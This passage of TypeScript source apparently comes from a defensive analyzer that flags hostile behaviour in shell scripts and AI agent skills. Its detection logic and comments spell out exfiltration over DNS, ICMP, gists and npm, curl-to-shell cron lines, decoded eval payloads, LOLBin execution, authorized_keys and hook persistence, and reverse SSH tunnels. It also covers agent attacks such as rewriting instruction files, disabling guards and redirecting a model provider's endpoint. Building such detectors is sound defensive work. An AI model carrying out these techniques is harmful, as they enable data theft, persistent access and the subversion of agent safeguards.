        const q = args.find((a) => /\$\(|\$\{?\w|`/.test(a) && /\./.test(a));
        if (q) {
          // (the zone: the labels after the last one a variable fills, with known variables expanded first)
          const zone = expand(q).replace(/^.*[$`)}][^.]*\./, '').replace(/^\./, '');
          const { hostClass } = classifyHost(zone || q);
          effects.push({ ...b, kind: 'send', host: zone || q, hostClass, channel: 'dns', consumes: [...consumed(), ...q.match(/\$\(([^)]*)\)/)?.slice(1).flatMap((s) => { const sub = classifySecretPath(s); return sub ? [`secret:${sub}`] : []; }) ?? []] });
        }
      }
      // `ping -p <hex>`: the echo request's padding carries what the pattern was computed from
      const echo = w0 === 'ping' ? pingPattern(args) : undefined;
      if (echo && /\$\(|\$\{?\w|`/.test(echo.pattern)) {
        const target = echo.target ? expand(echo.target) : '';
        const { host, hostClass } = target ? classifyHost(target) : { host: '', hostClass: 'unknown' as const };
        effects.push({ ...b, kind: 'send', host, hostClass, channel: 'icmp', consumes: [...consumed(), ...(echo.pattern.match(/\$\(([^)]*)\)/)?.slice(1).flatMap((x) => { const sub = classifySecretPath(x); return sub ? [`secret:${sub}`] : []; }) ?? [])] });
      }
      if (/^(?:mail|mailx|sendmail|mutt|swaks)$/.test(w0)) effects.push({ ...b, kind: 'send', hostClass: 'unknown', channel: 'smtp', consumes: consumed() });
      // git: what is added and committed travels with a later push of the repository.
      if (w0 === 'git' && (args.includes('add') || args.includes('commit'))) {
        effects.push({ ...b, kind: 'collect', consumes: [...scopeFiles], produces: [`gitrepo@${opts.scope}`] });
      }
      // Publishing where anyone reads it, through the user's own accounts: a gist (`gh gist create`, stdin or files), a
      // comment or issue body (`gh issue|pr comment`, `gh api …/comments -f body=…`), a package (`npm publish`, which
      // sends what the directory holds). A drop box on a trusted service: the paste class (a CI pipeline publishing its
      // own repository, `ownRepository`, releases it to the registry).
      // (not a pull request of the current repository whose text its commits give, `gh pr create --fill`: the user's own
      // repository gets the branch they pushed, and no text of the script's)
      const ownPullRequest = args[0] === 'pr' && args[1] === 'create' && !args.some((a) => /^(?:-R|--repo|-b|--body|-F|--body-file)(?:=|$)/.test(a));
      if (w0 === 'gh' && ((args[0] === 'gist' && args[1] === 'create') || (/^(?:issue|pr)$/.test(args[0] ?? '') && /^(?:comment|create|edit)$/.test(args[1] ?? '') && !ownPullRequest) || (args[0] === 'api' && /(?:^|\/)(?:gists|comments|issues)(?:\/|$)/.test(args.find((a, i) => i > 0 && !a.startsWith('-')) ?? '')))) {
        const host = args[0] === 'gist' || /gists/.test(args.join(' ')) ? 'gist.github.com' : 'github.com';
        effects.push({ ...b, kind: 'send', host, hostClass: 'paste', channel: 'http', consumes: consumed() });
      }
      // (what the package directory holds: the files this script put there, not the npmrc it writes for the auth, nor
      // the one it names as npm's configuration: `--userconfig FILE` is the login npm publishes with, not content)
      if (/^(?:npm|pnpm|yarn)$/.test(w0) && args.filter((a) => !a.startsWith('-'))[w0 === 'yarn' && args[0] === 'npm' ? 1 : 0] === 'publish') {
        const config = args.filter((a, i) => /^--(?:user|global)config$/.test(args[i - 1] ?? '') || /^--(?:user|global)config=/.test(a));
        const published = config.length ? [...inKeys, ...args.filter((a) => !config.includes(a)).flatMap((a) => { const sec = classifySecretPath(a); return [...(sec ? [`secret:${sec}`] : []), ...keysOf(a)]; })] : consumed();
        effects.push({ ...b, kind: 'send', host: 'registry.npmjs.org', hostClass: opts.ownRepository ? 'registry' : 'paste', channel: 'http', consumes: [...new Set(published), ...[...scopeFiles].filter((k) => !/^file:(?:~|\/)/.test(k) && !NPMRC_KEY.test(k))] });
      }
      // `git remote add NAME URL`: a later push to NAME goes to URL; `--mirror`/`--all` sends the whole repository
      if (w0 === 'git' && args[0] === 'remote' && args[1] === 'add' && args[2] && xargs[3]) gitRemotes.set(args[2], xargs[3]);
      if (w0 === 'git' && args.includes('push')) {
        const remote = xargs.find((a) => /:\/\/|@[\w.-]+:/.test(a)) ?? args.map((a) => gitRemotes.get(a)).find(Boolean);
        if (remote) {
          const classified = classifyHost(remote.replace(/^[\w.-]+@([\w.-]+):.*/, '$1'));
          const { host } = classified;
          // A repository on a public code host written into the script (`https://github.com/some-org/mirror.git`) is its
          // author's, not the user's (whose remote is `origin`, or a variable they set): a drop box, as a gist is.
          // Not in a repository's own pipeline, which pushes to itself.
          const hostClass = classified.hostClass === 'vendor' && pushedRepositoryOf(remote) && !opts.ownRepository ? 'paste' : classified.hostClass;
          const whole = args.some((a) => /^--(?:mirror|all)$/.test(a));
          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'git', consumes: [...consumed(), `gitrepo@${opts.scope}`], ...(whole ? { carries: ['user-files'] } : {}) });
        }
      }

      // A header git adds to its requests (`git -c http.extraHeader="X-Ctx: $ctx" ls-remote URL`): what it holds goes to
      // the URL's host with the request.
      if (w0 === 'git' && args.some((a) => /^(?:ls-remote|fetch|clone|pull|push)$/.test(a))) {
        const header = xargs.some((a, i) => xargs[i - 1] === '-c' && /^http\.(?:\S+\.)?extraheader=/i.test(a));
        const url = xargs.find((a) => /^(?:https?|git|ssh):\/\//.test(a));
        if (header && url) {
          const { host, hostClass } = classifyHost(url);
          effects.push({ ...b, kind: 'send', host, hostClass, url, channel: 'http', consumes: consumed() });
        }
      }

      // Decoders: decode literal input now, and re-lower what it says.
      // A decoder given a placeholder or an elided blob decodes nothing that could run (analyzers/shell.ts).
      // (`xargs -0 printf '%b'` is read as printf once xargs is set aside: the stage as written says it decodes)
      if ((DECODERS.test(all) || DECODERS.test(c.raw) || /^(?:base64|xxd|rev)$/.test(w0) || (w0 === 'eval' && c.pos > 0 && DECODERS.test(expand(all).replace(/\$\{IFS\}|\$IFS\b/g, ' ')))) && (opts.decoded || !PAYLOAD_PLACEHOLDER.test(`${pipe.slice(0, c.pos).map((p) => p.raw).join(' | ')} |`))) {
        upstreamDecoded = true;
        const src = [...pipe.slice(0, c.pos).map((p) => p.raw), c.raw].join(' | ');
        const decoded = decodeLiteral(src, all);
        if (decoded) {
          effects.push({ ...b, kind: 'encode', evidence: `decodes: ${decoded.slice(0, 140)}`, produces: [`pipe:${c.line}:${c.pos}@${opts.scope}`] });
          // (the decoded text's own lines are not the file's: each effect is told at the line that decodes it)
          for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push({ ...e, line: c.line });
        }
      }

      // Windows' own programs that run what they are handed: a URL given to mshta, regsvr32 /i: or msiexec /i is fetched
      // and run (not one rundll32 hands the browser: `url.dll,FileProtocolHandler https://…` opens a page); a file given
      // to them (or to rundll32, wscript, cscript) is run, linked to the download that saved it;
      // the command line wmic process call create, cmd /c or start is handed is lowered as one.
      const lolbin = /^(mshta|regsvr32|msiexec|rundll32|wscript|cscript|wmic|cmd|start)(?:\.exe)?$/i.exec(w0)?.[1]?.toLowerCase();
      if (lolbin && !tests) {
        const words = args.map((a) => expand(a).replace(/^(["'])([\s\S]*)\1$/, '$2'));
        if (lolbin === 'wmic' || lolbin === 'cmd' || lolbin === 'start') {
          const at = lolbin === 'wmic' ? (/^process$/i.test(words[0] ?? '') && /^call$/i.test(words[1] ?? '') && /^create$/i.test(words[2] ?? '') ? 3 : -1) : lolbin === 'cmd' ? words.findIndex((a) => /^\/[ck]$/i.test(a)) + 1 : words.findIndex((a) => !/^\/|^$/.test(a));
          const inner = at > 0 || (lolbin === 'start' && at === 0) ? words.slice(at).join(' ').trim() : '';
          // (a cmd reading a pipe, `curl … | cmd`, or one given no command line: read below, as any shell)
          if (inner && depth < 4 && c.pos === 0) {
            for (const e of lowerShell(inner, { ...opts, firstLine: c.line, depth: depth + 1 })) effects.push({ ...e, line: c.line });
            continue;
          }
        } else {
          const u = /^(?:mshta|regsvr32|msiexec)$/.test(lolbin) ? words.map((a) => URL_IN.exec(a)?.[0]).find(Boolean) : undefined;
          if (u) {
            const { host, hostClass } = classifyHost(u);
            const key = `pipe:${c.line}:${c.pos}@${opts.scope}`;
            effects.push({ ...b, kind: 'fetch', host, hostClass, url: u, produces: [key] });
            effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, url: u, command: c.raw, consumes: [key] });
            continue;
          }
          const file = words.find((a) => !/^[-/]/.test(a) && /\.(?:dll|ocx|cpl|js|jse|vbs|vbe|wsf|hta|msi|exe|sct)(?:,|$)/i.test(a))?.replace(/,.*$/, '');
          if (file) effects.push({ ...b, kind: 'exec', origin: 'computed', path: file, command: c.raw, consumes: keysOf(file) });
          continue;
        }
      }
      // `eval "$(printf '%s' "$m" | rev)"`, `sh -c "$(echo … | base64 -d)"`: the substitution decodes a literal, and the
      // command runs what it decodes.
      if (/^(?:eval|source|\.)$/.test(w0) || (SHELLS.test(w0) && args.includes('-c'))) {
        for (const { decoded } of decodedSubstitutions(c.raw)) {
          effects.push({ ...b, kind: 'encode', evidence: `decodes: ${decoded.slice(0, 140)}` });
          effects.push({ ...b, kind: 'exec', origin: 'decoded', command: decoded.slice(0, 200) });
          // (the decoded text's own lines are not the file's: each effect is told at the line that decodes it)
          for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push({ ...e, line: c.line });
        }
      }
      // A command whose arguments a substitution decodes from a literal (`docker run $(printf '%s' "$PROFILE" | base64 -d)`):
      // it runs with what the blob holds, hidden from a reader; read as the command with those arguments.
      else if (!/^(?:printf|echo|export|local|declare|readonly|test|\[)$/.test(w0) && c.raw.includes('$(')) {
        for (const { sub, decoded } of decodedSubstitutions(c.raw)) {
          if (!sub.includes('|') || decoded.length < 8) continue;
          const line = c.raw.replace(sub, decoded.replace(/\s+/g, ' ').trim());
          effects.push({ ...b, kind: 'encode', evidence: `decodes: ${decoded.slice(0, 140)}` });
          effects.push({ ...b, kind: 'exec', origin: 'decoded', command: line.slice(0, 200) });
          for (const e of lowerShell(line, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push({ ...e, line: c.line });
          break;
        }
      }
      // (a decoded variable printed into the pipe, `printf '%s' "$p" | sh`, is decoded input too)
      if (/^(?:printf|echo)$/.test(w0) && c.pos < pipe.length - 1 && args.some((a) => [...a.matchAll(/\$\{?([A-Za-z_]\w*)\}?/g)].some((m) => decodedVars.has(m[1])))) upstreamDecoded = true;
      // Running: a shell or interpreter reading a pipe, a downloaded file, a decoded string, `bash -c "$(curl …)"`.
      const runsStdin = c.pos > 0 && SHELLS.test(w0) && !args.some((a) => /\.\w+$/.test(a) && !/^-/.test(a));
      const sub = /(?:\$\(|`|<\()\s*(?:curl|wget|iwr|irm|invoke-webrequest)\b[^)`]*/i.exec(c.raw);
      if (runsStdin && (upstreamFetched || upstreamDecoded)) {
        const f = upstreamFetched;
        effects.push({ ...b, kind: 'exec', origin: f ? 'downloaded' : 'decoded', ...(f ? { host: f.host, hostClass: f.hostClass, url: f.url } : {}), command: c.raw === pipe[pipe.length - 1].raw ? pipe.map((p) => p.raw).join(' | ') : c.raw, consumes: f?.produces ?? [] });
      } else if (sub && (SHELLS.test(w0) || /^(?:eval|source|\.)$/.test(w0) || /iex|invoke-expression/i.test(all))) {
        const u = URL_IN.exec(expand(sub[0]))?.[0];
        const { host, hostClass } = u ? classifyHost(u) : { host: '', hostClass: 'unknown' as const };
        effects.push({ ...b, kind: 'fetch', host, hostClass, ...(u ? { url: u } : {}) });
        effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, ...(u ? { url: u } : {}), command: c.raw });
      } else if (/iex|invoke-expression/i.test(all) && /downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod|net\.webclient/i.test(all)) {
        const u = URL_IN.exec(all)?.[0];
        const { host, hostClass } = u ? classifyHost(u) : { host: '', hostClass: 'unknown' as const };
        effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, ...(u ? { url: u } : {}), command: c.raw });
      } else if (/^(?:powershell|pwsh)(?:\.exe)?$/i.test(w0) && args.some((a) => /^-e(?:nc|ncodedcommand)?$/i.test(a))) {
        const blob = args[args.findIndex((a) => /^-e(?:nc|ncodedcommand)?$/i.test(a)) + 1];
        effects.push({ ...b, kind: 'exec', origin: 'decoded', command: c.raw });
        const d = blob ? Buffer.from(blob, 'base64').toString('utf16le') : '';
        if (d && isMostlyPrintable(d)) for (const e of lowerShell(d, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1, lang: 'powershell' })) effects.push(e);
      } else if (/^(?:chmod)$/.test(w0) && args.some((a) => /\+x|7[0-7][0-7]/.test(a))) {
        const target = args.filter((a) => !/^-|\+x|^\d+$/.test(a)).pop();
        if (target) effects.push({ ...b, kind: 'write', location: classifyWriteLocation(target), path: target, consumes: keysOf(target), produces: keysOf(target) });
      } else if (!tests && !TEST_TAIL.test(c.raw) && (/^(?:\.\/|\/tmp\/|~\/|\$|[A-Za-z]:[\\/]|%\w+%)/.test(prog) || (SHELLS.test(w0) && args[0] && !/^-/.test(args[0]) && (/[/.]/.test(args[0]) || /^\$\{?[A-Za-z_]/.test(args[0]))))) {
        // Running a file: linked to whatever produced it (a download, a decoded write).
        const own = /^(?:\.\/|\/tmp\/|~\/|\$|[A-Za-z]:[\\/]|%\w+%)/.test(prog);
        const target = own ? prog : args[0];
        const keys = verifiedRun(target) ? [] : keysOf(target);
        effects.push({ ...b, kind: 'exec', origin: 'computed', path: target, command: c.raw, consumes: keys });
        // A script of the target's own run with arguments: what each argument carries is that script's $1, $2 …
        const callee = ownScriptOf(target, opts.scope);
        if (callee)
          (own ? args : args.slice(1)).forEach((a, i) => {
            const carried = keysOf(a);
            if (carried.length) effects.push({ ...b, kind: 'collect', evidence: `passes ${a} to ${callee} as $${i + 1}`, consumes: carried, produces: [`arg:${i + 1}@${callee}`, `arg:@@${callee}`] });
          });
      }
      if (hidden) effects.push({ ...b, kind: 'spawn-hidden', command: c.raw });

      // Writes: redirections and persistence locations.
      if (c.redirectOut) {
        // the target as its variables expand (`> "$pl"` with pl=~/Library/LaunchAgents/…, `>> "$rc"` over rc files)
        const targets = expandEach(c.redirectOut.replace(/^["']|["']$/g, ''));
        const loc = classifyWriteLocation(targets[0] ?? c.redirectOut);
        effects.push({ ...b, kind: 'write', location: loc, path: targets[0] ?? c.redirectOut, consumes: consumed(), produces: outKeys });
        // A script the command writes runs later: a file with a shebang, or lines for a startup or schedule file.
        const text = c.pos === 0 ? printedText(w0, args, expand) : undefined;
        const found = persistenceOf(c.redirectOut) ?? targets.map(persistenceOf).find(Boolean);
        const mech = found && startupOf(found, text);
        // (a line that only sets a variable in a shell rc file starts nothing: `export PATH="$HOME/.npm-global/bin:$PATH"`)
        // (nor does authorized_keys filtered into itself, `grep -vF "$old" "$backup" > ~/.ssh/authorized_keys.new`: a
        // key removed, as a rotation does, adds none)
        // (its backup named by a variable the same script sets, as a remote command's escaped `\$b` is)
        const filtered = /\bgrep\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*v[a-zA-Z]*\s[^|;&>]*?\s(\S+)\s*>>?\s*\S*authorized_keys/.exec(c.raw);
        const removesLines = !!filtered && keysFile(filtered[1]!);
        if (mech && !startsNothing(mech, text) && !(mech === 'authorized-keys' && removesLines)) effects.push({ ...b, kind: 'persist', mechanism: mech, consumes: consumed() });
        if (removesLines) keysFiltered.add(targets[0] ?? c.redirectOut);
        if (text && (/^#!/.test(text) || mech)) {
          // (a hook it writes pushes to the remotes this script added: `git remote add m URL` then `git push m` in post-commit)
          for (const e of lowerShell(text, { ...opts, firstLine: c.line, depth: depth + 1, gitRemotes })) effects.push({ ...e, line: c.line });
        }
        // The user's package sources pointed at a host that is no registry or vendor (`echo "registry=…" >> .npmrc`, a
        // pip.conf's extra index): every later install fetches from there and runs what it serves, as the emulator reads
        // such a write.
        const redirect = text ? registryRedirect(redirectedRegistries(targets[0] ?? c.redirectOut, text, '')) : undefined;
        if (redirect) effects.push({ ...b, ...redirect, evidence: `points the user's package installs at ${redirect.host}: ${c.raw}`.slice(0, 200) });
        // (and a token written into .npmrc for such a host, `//mirror/:_authToken=$token`: npm sends it there with every
        // request, so what the token came from is sent there)
        const authFor = text && NPMRC_KEY.test(targets[0] ?? c.redirectOut) ? /^\/\/([\w.-]+)(?::\d+)?\/[^\s]*:_authToken=\S/m.exec(text)?.[1] : undefined;
        const authHost = authFor ? classifyHost(authFor) : undefined;
        if (authHost && !TRUSTED_HOST_CLASSES.includes(authHost.hostClass)) effects.push({ ...b, kind: 'send', host: authHost.host, hostClass: authHost.hostClass, channel: 'http', consumes: consumed(), evidence: `npm sends this token to ${authHost.host} with every request: ${c.raw}`.slice(0, 200) });
        // Text written into a file the agent reads as instructions (another skill's SKILL.md, AGENTS.md, MEMORY.md):
        // what it says is followed from then on, as a skill's own steps are.
        if (text && instructionWriter && INSTRUCTION_FILE.test(targets[0] ?? c.redirectOut))
          for (const e of instructionWriter(text, opts.file, opts.reach, targets[0] ?? c.redirectOut)) effects.push({ ...e, line: c.line });
      }
      // A file moved or copied over authorized_keys (`mv /tmp/k ~/.ssh/authorized_keys`): its keys log in from then on.
      // (Not the file's own lines filtered into a new copy and moved back: a key removed, above; nor its own backup put
      // back, `cp ~/.ssh/authorized_keys.bak ~/.ssh/authorized_keys`.)
      if (/^(?:mv|cp|install)$/.test(w0)) {
        const paths = args.filter((a) => !a.startsWith('-')).map((a) => expand(a.replace(/^["']|["']$/g, '')));
        const dest = paths.at(-1);
        if (paths.length >= 2 && dest && persistenceOf(dest) === 'authorized-keys' && !paths.slice(0, -1).every((p) => keysFiltered.has(p) || /(?:^|[\\/])\.ssh[\\/]authorized_keys2?\.(?:bak|orig|old|backup|save)\b[\w.-]*$/.test(p))) effects.push({ ...b, kind: 'persist', mechanism: 'authorized-keys', consumes: consumed() });
      }
      // `git config --global core.hooksPath DIR` (or init.templateDir): the scripts there run on every commit, push and
      // checkout in every repository. (A repository's own `git config core.hooksPath .githooks` is its dev setup.)
      if (w0 === 'git' && setsUserHooks(args))
        effects.push({ ...b, kind: 'persist', mechanism: 'git-hook', consumes: consumed() });
      // `npm config set script-shell PROGRAM` in the user's or the machine's settings: every npm script of every project
      // runs through that program from then on. (a project's own `--location=project` setting is its setup)
      if (/^(?:npm|pnpm|yarn)$/.test(w0) && args[0] === 'config' && args[1] === 'set' && /^script-shell(?:=|$)/.test(args[2] ?? '') && !args.some((a) => /^--location[= ]project$/.test(a)))
        effects.push({ ...b, kind: 'persist', mechanism: 'library-preload', consumes: consumed() });
      if (/^(?:crontab|launchctl|systemctl|schtasks|reg|at|update-rc\.d|chkconfig)$/i.test(w0) || /Register-ScheduledTask|New-ItemProperty[^\n]*CurrentVersion\\+Run/i.test(all)) {
        const mech = persistenceOf(all) ?? (w0 === 'crontab' ? 'cron' : undefined);
        if (mech && !/^-l$/.test(args[0] ?? '')) effects.push({ ...b, kind: 'persist', mechanism: mech, consumes: consumed() });
        // `(crontab -l; echo '*/30 * * * * curl … | sh') | crontab -`: the lines piped in are the schedule, and run
        if (w0 === 'crontab' && c.pos > 0 && (!args.length || args[0] === '-')) {
          const upstream = pipe.slice(0, c.pos).map((p) => p.raw).join('\n');
          // (a printf's format with its arguments, `printf '*/20 * * * * %s | %s\n' "$f" "$s"`: the lines it prints)
          const printed = pipe.slice(0, c.pos).flatMap((p) => [...p.raw.matchAll(/\bprintf\s+((?:["'][^"'\n]*%[sb][^"'\n]*["'])(?:\s+(?:"[^"\n]*"|'[^'\n]*'|[^\s;|&)}]+))+)/g)].map((m) => {
            const [fmt, ...rest] = tokenize(m[1]).map((w) => w.replace(/^(["'])([\s\S]*)\1$/, '$2'));
            return printedText('printf', [fmt!, ...rest], (w) => expand(w)) ?? '';
          })).filter((t) => !/^\s*\$\{?\w+\}?\s*$/.test(t)); // (the table `crontab -l` printed, put back: not known here)
          const written = [...[...upstream.matchAll(/\b(?:echo|printf)\s+(?:-[a-z]+\s+)*(["'])((?:(?!\1)[^\\]|\\.)*)\1/g)].map((m) => m[2]), ...printed];
          for (const text of written)
            for (const line of scheduledCommands(text.replace(/\\n/g, '\n')))
              // (with the script's variables: `echo "… curl $URL | sh"` writes the URL the script set into the schedule)
              for (const e of lowerShell(line, { ...opts, scope: `${opts.scope}:crontab:${c.line}`, firstLine: c.line, depth: depth + 1, outer: scope() })) effects.push({ ...e, line: c.line });
        }
      }
      if (destroysRecovery(w0, args)) effects.push({ ...b, kind: 'destroy', location: 'system' });
      if (/^(?:rm|shred|srm|del|remove-item)$/i.test(w0)) {
        if (args.some((a) => /^"?\$0"?$|\$\{?BASH_SOURCE|\$MyInvocation/.test(a))) effects.push({ ...b, kind: 'self-delete' });
        else if (args.some((a) => /^-[a-z]*r/i.test(a))) {
          const keys = args.map(keyFolderOf).find(Boolean);
          if (keys || args.some((a) => /^(?:\/|~|\$HOME|\/\*|~\/\*|\$HOME\/\*|\*|C:\\)$/.test(a.replace(/["']/g, '')))) effects.push({ ...b, kind: 'destroy', ...(keys ? { secret: keys } : {}) });
        }
      }
      if (/\bhistory\s+-c\b|\bunset\s+HISTFILE\b/.test(c.raw) || TRACES_OFF.test(`${w0} ${args.join(' ')}`)) effects.push({ ...b, kind: 'instruct', instruct: 'conceal' });
      if (guardOff(w0, args)) effects.push({ ...b, kind: 'instruct', instruct: 'disable-guard' });
      // `ssh -R 0:127.0.0.1:22 relay`: a port of this machine (its SSH server, a remote desktop) opened on a host the
      // script names, to whoever reaches that host: remote access in, as a reverse shell gives it.
      // A WMI event subscription's consumer: its command runs at every event of its filter (classify.ts)
      const consumer = depth < 4 ? wmiConsumerCommand(c.raw) : undefined;
      if (consumer !== undefined) {
        effects.push({ ...b, kind: 'persist', mechanism: 'scheduled-task', consumes: consumed() });
        if (consumer) for (const e of lowerShell(consumer, { ...opts, firstLine: c.line, depth: depth + 1 })) effects.push({ ...e, line: c.line });
      }
      // (a key the script holds, written into a remote host's authorized_keys over ssh, is a login there for whoever
      // holds its private half; the user's own key, from a file or an argument, is how they reach their server)
      if (w0 === 'ssh' && /authorized_keys/.test(c.raw) && LITERAL_PUBLIC_KEY.test(expand(c.raw))) effects.push({ ...b, kind: 'persist', mechanism: 'authorized-keys', consumes: consumed() });
      if (w0 === 'ssh') {
        // (a remote-access port: SSH, RDP, VNC, WinRM; a web app's port shared through a tunnel is a preview)
        const spec = /^["']?(?:[\w.*]+:)?(?:\d+:)?(?:\[?(?:localhost|127\.0\.0\.1|::1)\]?:)?(?:22|2222|3389|5900|5985|5986)["']?$/;
        const at = args.findIndex((a, i) => (a === '-R' && spec.test(args[i + 1] ?? '')) || (/^-R./.test(a) && spec.test(a.slice(2))));
        const dest = at < 0 ? undefined : [...args].reverse().find((a, i, all) => !a.startsWith('-') && !/^-[a-zA-Z]$/.test(all[i + 1] ?? '') && /^["']?[\w.${}:@-]+["']?$/.test(a));
        const host = dest && expand(expand(dest.replace(/^["']|["']$/g, ''))).replace(/^.*@/, '');
        if (host && !/^\$|\$\{/.test(host)) {
          const hc = classifyHost(host);
          effects.push({ ...b, kind: 'exec', channel: 'socket', host: hc.host, hostClass: hc.hostClass, command: c.raw.slice(0, 200) });
        }
      }
      // Removing the quarantine attribute (-d, -c); printing or listing it (-p, -l) reads it. From an app the user
      // names (a placeholder: `"/Applications/<App>.app"`, or the path a script is handed: `xattr -dr … "$1"`) it is
      // the user's own choice; a lure names its download.
      const cleared = args.filter((a) => !/^-/.test(a) && !/quarantine/.test(a));
      const named = cleared.length > 0 && cleared.every((a) => keysOf(a).some((k) => k.startsWith('arg:')));
      if (/^(?:xattr)$/.test(w0) && args.some((a) => /quarantine/.test(a)) && args.some((a) => /^-[a-z]*[dc]/i.test(a)) && !named && !args.some((a) => /<[A-Za-z][\w .-]*>|\bYOUR[_-]?[A-Z]/.test(a))) effects.push({ ...b, kind: 'instruct', instruct: 'disable-guard' });
      // OpenClaw's scheduler (`openclaw cron add … --message "…"`): the agent gets that prompt on every run, unasked.
      if (w0 === 'openclaw' && args[0] === 'cron' && args[1] === 'add') {
        effects.push({ ...b, kind: 'persist', mechanism: 'cron', consumes: consumed() });
        const at = xargs.findIndex((a, i) => i > 1 && /^--(?:message|system-event|prompt)(?:=|$)/.test(a));
        const prompt = at < 0 ? undefined : xargs[at].includes('=') ? xargs[at].slice(xargs[at].indexOf('=') + 1) : xargs[at + 1];
        if (prompt && proseLowerer) for (const e of proseLowerer(tokenize(prompt).join(' '), opts.file, opts.reach)) effects.push({ ...e, line: c.line, evidence: `the scheduled prompt: ${e.evidence}`.slice(0, 200) });
      }
      // OpenClaw's own configuration command switching off one of its guards (`openclaw config set tools.exec.ask off`).
      if (w0 === 'openclaw' && args[0] === 'config' && args[1] === 'set' && args[2] && args[3] !== undefined && weakenedGuard(args[2], args.slice(3).join(' '))) effects.push({ ...b, kind: 'instruct', instruct: 'disable-guard' });
      // (and pointing a model provider at another endpoint: every prompt, with the provider's API key, goes there)
      if (w0 === 'openclaw' && args[0] === 'config' && args[1] === 'set' && PROVIDER_ENDPOINT_KEY.test(args[2] ?? '')) {
        const url = URL_IN.exec(xargs.slice(3).join(' ').replace(/\\?["']/g, ' '))?.[0];
        if (url) {
          const h = classifyHost(url);
          const key = `provider:${args[2]}@${opts.scope}:${c.line}`;
          effects.push({ ...b, kind: 'read', secret: 'openclaw-token', path: '~/.openclaw/openclaw.json', produces: [key], evidence: `${b.evidence}: the provider's API key goes with every request` });
          effects.push({ ...b, kind: 'send', url, host: h.host, hostClass: h.hostClass, channel: 'http', carries: ['openclaw-token'], consumes: [key], evidence: `${b.evidence}: every prompt and the provider's API key go to ${h.host}` });
        }
      }
      // An AI coding agent started with its approvals switched off: whatever its prompt asks, it does unasked. Its prompt
      // is text its model follows with the user's tools.
      // A container started from an image: the image's code runs (from its registry, judged by that host), and one
      // started to restart on its own (`--restart unless-stopped`) comes back at every boot of the container engine.
      const container = containerRunOf(w0, xargs);
      if (container) {
        const { host, hostClass } = classifyHost(`https://${container.registry}/`);
        const key = `net:${container.registry}/${container.image}@${opts.scope}:${c.line}`;
        effects.push({ ...b, kind: 'fetch', host, hostClass, url: `docker://${container.registry}/${container.image}`, produces: [key], evidence: `${b.evidence}: pulls ${container.image} from ${container.registry}` });
        effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, command: c.raw.slice(0, 200), consumes: [key] });
        if (container.restarts) effects.push({ ...b, kind: 'persist', mechanism: 'container-restart' });
      }
      const agent = agentCliOf(w0, xargs);
      // (one whose prompt is the task the script was called with, `-p "$*"`, does what its caller asked: gated as that call is)
      const callersTask = agent?.prompt ? CALLERS_WORDS.test(agent.prompt) : !!agent && xargs.some((a) => CALLERS_WORDS.test(a));
      if (agent?.unattended) effects.push({ ...b, kind: 'instruct', instruct: 'auto-approve', ...(callersTask && b.reach === 'agent' ? { reach: 'consent' as const } : {}) });
      if (agent?.prompt && proseLowerer) for (const e of proseLowerer(agent.prompt, opts.file, opts.reach)) effects.push({ ...e, line: c.line, evidence: `the prompt it hands ${w0}: ${e.evidence}`.slice(0, 200) });
      if (c.pos < pipe.length - 1 && !upstreamKeys.length) upstreamKeys = [...consumed(), ...readKeys];
    }
  }
  // A download the script checks against a digest it holds before using it is the pinned file, whatever host serves it:
  // its fetch is judged as a vendor's.
  if (aborts && verified.size)
    for (const e of effects) {
      if (e.kind !== 'fetch' || e.hostClass !== 'unknown') continue;
      const names = (e.produces ?? []).map((k) => (k.startsWith('file:') ? k.slice(5) : /^var:(\w+)@/.test(k) ? expand(`$${/^var:(\w+)@/.exec(k)![1]}`) : ''));
      if (names.some((n) => n && verified.has(n))) e.hostClass = 'vendor';
    }
  return effects;
}

/** Options of `docker run` that take a value (the image is the first word that is neither an option nor its value). */
const CONTAINER_VALUE_OPTION = /^(?:-[evlpwuhm]|--(?:env|volume|label|publish|workdir|user|hostname|memory|name|cpus|network|net|restart|entrypoint|log-driver|log-opt|mount|device|cap-add|cap-drop|env-file|platform|pull|add-host|dns|ulimit|shm-size|security-opt|tmpfs|pid|ipc|gpus|stop-signal|health-cmd|label-file|cidfile|expose|link|runtime|userns|volumes-from))$/;
/**
 * `docker run IMAGE …` (or podman's, nerdctl's, `docker container run`, `docker create`): the image, the registry it
 * comes from (Docker Hub when its name has no host) and whether the container restarts on its own.
 */
export function containerRunOf(program: string, args: readonly string[]): { image: string; registry: string; restarts: boolean } | undefined {
  if (!/^(?:docker|podman|nerdctl)$/.test(program)) return undefined;
  const words = args.map((a) => a.replace(/^["']|["']$/g, ''));
  let i = words[0] === 'container' ? 1 : 0;
  if (!/^(?:run|create)$/.test(words[i] ?? '')) return undefined;
  let restarts = false;
  for (i++; i < words.length; i++) {
    const w = words[i]!;
    const restart = /^--restart(?:=(.*))?$/.exec(w);
    if (restart) {
      const policy = restart[1] ?? words[i + 1] ?? '';
      if (/^(?:always|unless-stopped|on-failure)/.test(policy)) restarts = true;
      if (restart[1] === undefined) i++;
      continue;
    }
    if (CONTAINER_VALUE_OPTION.test(w)) {
      i++;
      continue;
    }
    if (w.startsWith('-')) continue;
    if (!/^[\w.-]+(?::\d+)?(?:\/[\w.-]+)*(?::[\w.-]+)?(?:@sha256:[0-9a-f]+)?$/.test(w) || w.includes('$')) return undefined;
    const first = w.split('/')[0]!;
    const hosted = w.includes('/') && /[.:]|^localhost$/.test(first);
    return { image: hosted ? w.slice(first.length + 1) : w, registry: hosted ? first : 'registry-1.docker.io', restarts };
  }
  return undefined;
}

/** The words a script was called with (`$*`, `"$@"`, `${1}`), as the shell lowering leaves them. */
const CALLERS_WORDS = /^\s*\$(?:\{[*@1-9](?::-[^}]*)?\}|[*@1-9])/;

/** The home folder itself, or the user's documents, desktop and pictures (`~`, `$HOME`, `/home/*`, `~/Documents`). */
